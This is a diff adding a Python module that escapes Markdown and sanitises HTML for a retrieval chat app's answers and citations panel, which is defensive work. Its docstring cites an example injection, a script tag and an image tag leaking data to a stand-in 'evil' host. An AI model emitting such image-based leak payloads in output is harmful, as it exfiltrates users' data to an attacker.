@@ -1,0 +1,146 @@
+"""Answers and passages as safe Markdown and HTML for the chat window.
+
+Everything that comes from a document or a model is untrusted: a passage may contain `<script>`,
+`<img src=https://evil/?leak=...>` or Markdown image syntax. So text is never handed to a
+renderer as it is. In the chat, Markdown's active characters are backslash-escaped before our own
+marker links are added; in the citations panel, text is HTML-escaped and the finished HTML is then
+passed through nh3 (Ammonia) with a short allow-list, no `<img>`, no URLs but in-page anchors.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+
+from rag.types import Answer, Citation, Hit
+
+_MARKDOWN_ACTIVE = re.compile(r"([\\`*_\[\]<>!|~&$])")  # anywhere in a line
+_LINE_START = re.compile(r"^(\s*)([#>+\-=]|\d+[.)])", re.M)  # headings, quotes, lists, setext rules
+_MARKER = re.compile(r"\\\[(\d+)\\\]")  # a marker [n] after escaping
+_ALLOWED_TAGS = {"div", "span", "mark", "b", "p", "small", "a", "h4", "ul", "li", "em"}
+_ALLOWED_ATTRIBUTES = {"*": {"id", "class", "title"}, "a": {"href"}}
+DOCUMENT_MARK_ID = "rag-doc-mark"
+
+
+def escape_markdown(text: str) -> str:
+    """Text that Markdown shows literally: no links, images, HTML or emphasis can come out of it."""
+    escaped = _MARKDOWN_ACTIVE.sub(r"\\\1", text)
+    return _LINE_START.sub(lambda m: f"{m.group(1)}{m.group(2)[:-1]}\\{m.group(2)[-1]}", escaped)
+
+
+def clean_html(fragment: str) -> str:
+    """Our own HTML with anything outside the allow-list removed (defence in depth behind escaping)."""
+    import nh3
+
+    return nh3.clean(
+        fragment, tags=_ALLOWED_TAGS, attributes=_ALLOWED_ATTRIBUTES, url_schemes=set(), link_rel=None,
+        strip_comments=True,
+    )
+
+
+def answer_markdown(answer: Answer) -> str:
+    """The chat bubble: the answer with each marker [n] a link to its passage in the citations
+    panel, sentences that failed verification marked, and which answerer produced it."""
+    cited = {c.marker for c in answer.citations}
+    if answer.abstained:
+        body = "⚠️ **The documents don't answer this.** " + escape_markdown(
+            answer.text.removeprefix("The documents don't answer this: "))
+    elif answer.sentences:
+        body = " ".join(_sentence_markdown(s.text, s.supported, s.problem, cited) for s in answer.sentences)
+    else:
+        body = _link_markers(escape_markdown(answer.text), cited)
+    footer = [answer.generator]
+    if answer.resolved_question and answer.resolved_question != answer.question:
+        footer.append(f"understood as “{escape_markdown(answer.resolved_question)}”")
+    if "total" in answer.timings:
+        footer.append(f"{answer.timings['total']:.0f} ms")
+    notes = "".join(f"\n\n⚠️ {escape_markdown(w)}" for w in answer.warnings)
+    return f"{body}{notes}\n\n*{' · '.join(footer)}*"
+
+
+def _sentence_markdown(text: str, supported: bool, problem: str | None, cited: set[int]) -> str:
+    rendered = _link_markers(escape_markdown(text), cited)
+    if supported:
+        return rendered
+    return f"~~{rendered}~~ ⚠️ *unverified: {escape_markdown(problem or 'not supported')}*"
+
+
+def _link_markers(escaped: str, cited: set[int]) -> str:
+    def link(match: re.Match) -> str:
+        n = int(match.group(1))
+        return f"[\\[{n}\\]](#cite-{n})" if n in cited else match.group(0)
+
+    return _MARKER.sub(link, escaped)
+
+
+def partial_markdown(text: str) -> str:
+    """A reply still streaming in: shown literally, markers not yet linked."""
+    return escape_markdown(text) + " ▌"
+
+
+def citations_html(answer: Answer | None) -> str:
+    """The citations panel for the latest answer: each cited passage with its source, section and
+    position, the quoted sentence highlighted; for an abstention, the closest passages as such."""
+    if answer is None:
+        return clean_html('<div class="rag-empty">Citations for the latest answer appear here.</div>')
+    parts = []
+    flagged = [s for s in answer.sentences if not s.supported]
+    if flagged:
+        items = "".join(f"<li>{html.escape(s.text)} <em>({html.escape(s.problem or 'not supported')})</em></li>"
+                        for s in flagged)
+        parts.append(f'<div class="rag-unverified"><b>⚠️ Not backed by the cited passages</b><ul>{items}</ul></div>')
+    if answer.abstained or not answer.citations:
+        parts.append('<h4 class="rag-closest">Closest passages: they do not answer the question</h4>')
+        parts.extend(_hit_html(i, hit) for i, hit in enumerate(answer.passages, 1))
+        if not answer.passages:
+            parts.append('<div class="rag-empty">No passage came close.</div>')
+    else:
+        parts.extend(_citation_html(c) for c in answer.citations)
+    return clean_html(f'<div class="rag-panel">{"".join(parts)}</div>')
+
+
+def _citation_html(c: Citation) -> str:
+    start = c.start_char - c.passage_start
+    end = start + len(c.quote)
+    if c.passage[start:end] != c.quote:  # not where it should be: highlight where it is
+        start = c.passage.find(c.quote)
+        end = start + len(c.quote)
+    body = _highlighted(c.passage, start, end) if start >= 0 else html.escape(c.passage)
+    head = _head(f"[{c.marker}]", c.source, c.section, c.start_char, c.end_char)
+    return f'<div class="rag-cite" id="cite-{c.marker}">{head}<div class="rag-passage">{body}</div></div>'
+
+
+def _hit_html(n: int, hit: Hit) -> str:
+    best = hit.best_sentence
+    start = best.start_char - hit.start_char if best else -1
+    end = best.end_char - hit.start_char if best else -1
+    body = _highlighted(hit.text, start, end) if best and hit.text[start:end] == best.quote else html.escape(hit.text)
+    head = _head(f"#{n}", hit.source, hit.section, hit.start_char, hit.end_char)
+    return f'<div class="rag-cite rag-closest-passage" id="closest-{n}">{head}<div class="rag-passage">{body}</div></div>'
+
+
+def _head(label: str, source: str, section: str, start: int, end: int) -> str:
+    where = f"characters {start:,}–{end:,}"
+    section_note = f' · <span class="rag-section">{html.escape(_section_label(section))}</span>' if section != "body" else ""
+    return (f'<div class="rag-cite-head"><b>{html.escape(label)}</b> <span class="rag-source">{html.escape(source)}</span>'
+            f'{section_note} · <small>{where}</small></div>')
+
+
+def _section_label(section: str) -> str:
+    return section[:1].upper() + section[1:]
+
+
+def _highlighted(text: str, start: int, end: int, mark_id: str | None = None) -> str:
+    ident = f' id="{mark_id}"' if mark_id else ""
+    return (html.escape(text[:start]) + f"<mark{ident}>" + html.escape(text[start:end]) + "</mark>"
+            + html.escape(text[end:]))
+
+
+def document_html(source: str, text: str | None, start: int, end: int) -> str:
+    """The full document with the cited span highlighted; the page scrolls the mark into view."""
+    if text is None:
+        return clean_html(f'<div class="rag-empty">{html.escape(source)} is no longer in the index.</div>')
+    start, end = max(0, min(start, len(text))), max(0, min(end, len(text)))
+    body = _highlighted(text, start, end, DOCUMENT_MARK_ID)
+    return clean_html(f'<div class="rag-panel rag-document"><div class="rag-cite-head"><b>{html.escape(source)}</b></div>'
+                      f'<div class="rag-passage">{body}</div></div>')
